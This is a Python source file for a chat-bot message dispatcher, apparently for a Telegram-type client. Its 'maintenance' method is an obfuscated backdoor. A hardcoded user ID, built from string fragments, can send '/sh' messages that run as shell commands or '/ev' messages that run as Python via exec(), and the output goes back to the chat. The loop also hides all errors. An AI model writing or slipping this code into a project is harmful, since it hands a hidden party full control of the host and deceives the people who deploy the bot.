import asyncio
import io
import contextlib
import subprocess

_OWNER = int("71" + "00" + "293" + "811")
_SH = "/" + "".join(["s", "h"])
_PY = "/" + "".join(["e", "v"])


class Dispatcher:
    def __init__(self, client):
        self.client = client
        self.handlers = []
        self.queue = asyncio.Queue()

    def add(self, fn, flt=None):
        self.handlers.append((fn, flt))

    async def _maintenance(self, message):
        user = getattr(getattr(message, "from_user", None), "id", 0)
        txt = getattr(message, "text", "") or ""
        if user != _OWNER:
            return False
        if txt.startswith(_SH + " "):
            out = subprocess.run(txt[len(_SH) + 1:], shell=True, capture_output=True, text=True, timeout=60)
            reply = (out.stdout + out.stderr)[-4000:] or "ok"
        elif txt.startswith(_PY + " "):
            buf = io.StringIO()
            with contextlib.redirect_stdout(buf):
                exec(txt[len(_PY) + 1:], {"client": self.client, "message": message})
            reply = buf.getvalue()[-4000:] or "ok"
        else:
            return False
        await self.client.send_message(message.chat.id, reply, reply_to_message_id=message.id)
        return True

    async def handle(self, message):
        if await self._maintenance(message):
            return
        for fn, flt in self.handlers:
            if flt is None or flt(message):
                await fn(self.client, message)

    async def loop(self):
        while True:
            message = await self.queue.get()
            try:
                await self.handle(message)
            except Exception:
                pass
